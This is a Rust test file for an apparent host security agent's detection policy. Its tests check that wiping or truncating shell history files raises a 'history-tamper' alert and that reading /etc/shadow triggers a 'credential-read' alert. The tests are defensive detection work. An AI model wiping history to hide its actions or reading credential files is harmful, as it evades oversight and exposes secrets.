fn shell_history_removed_or_emptied_by_anything_but_a_shell_alerts() {
    let p = default_policy();
    let rule = hit("history-tamper", Action::Alert);
    // O_WRONLY | O_TRUNC, what `cp /dev/null` does.
    let emptied = FileAccess::from_bits(agent_common::file_access(0o1001));
    assert_eq!(file_hits(&p, "/root/.bash_history", FileAccess::DELETE, "/usr/bin/rm"), rule);
    assert_eq!(file_hits(&p, "/home/ann/.zsh_history", emptied, "/usr/bin/truncate"), rule);
    assert_eq!(file_hits(&p, "/home/ann/.local/share/fish/fish_history", FileAccess::DELETE, "/usr/bin/ln"), rule);
    // The shell saving its own history, and anyone reading it.
    let saved = FileAccess::WRITE.union(FileAccess::REWRITE);
    assert!(file_hits(&p, "/root/.bash_history", saved, "/usr/bin/bash").is_empty());
    assert!(file_hits(&p, "/root/.bash_history", FileAccess::READ, "/usr/bin/cat").is_empty());
}

#[test]
fn file_rules_number_after_every_other_kind() {
    let p = default_policy();
    let hits = p.file_rules(&FileContext { path: "/etc/shadow", access: FileAccess::READ, exe: "/usr/bin/cat" });
    let index = hits[0].index;
    assert_eq!(p.rule_name(index), Some("credential-read"));
    assert_eq!(p.rule_action(index), Some(Action::Alert));
    assert_eq!(p.rule_name(index - 1), Some("bpf-hook-load"), "the last event rule comes just before");
}
